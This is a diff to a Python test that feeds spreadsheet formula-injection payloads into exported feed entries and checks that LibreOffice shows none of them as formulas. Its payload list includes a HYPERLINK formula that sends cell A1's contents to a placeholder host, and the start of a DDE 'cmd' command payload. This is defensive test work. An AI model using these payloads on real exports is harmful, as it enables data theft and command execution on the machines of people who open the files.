@@ -1,6 +1,7 @@
 #!/usr/bin/env python3
 """Posts that want to be formulas, exported and opened in LibreOffice: no cell may be a formula."""
 
+import hashlib
 import pathlib
 import shutil
 import subprocess
@@ -15,9 +16,16 @@ PAYLOADS = ["1+1", "HYPERLINK(\"http://example.org/?\"&A1,\"look\")", "cmd|' /C 
 TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
 TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"
 
+
+def words(*of):
+    """Some words that only this post has, so that it is no copy of another."""
+    digest = hashlib.sha256(repr(of).encode()).hexdigest().translate(str.maketrans("0123456789", "ghijklmnop"))
+    return " ".join(digest[at:at + 5] for at in range(0, 60, 5))
+
+
 entries = [
     {"id": f"{index}-{part}", "url": f"https://example.org/{index}/{part}",
-     "title": f"{start}{payload}", "content_text": f"{start}{payload} and a word or two, {index}",
+     "title": f"{start}{payload}", "content_text": f"{start}{payload} and a word or two, {words(index, part)}",
      "authors": [{"name": f"{start}{payload}"}]}
     for index, start in enumerate(STARTS) for part, payload in enumerate(PAYLOADS)
 ]
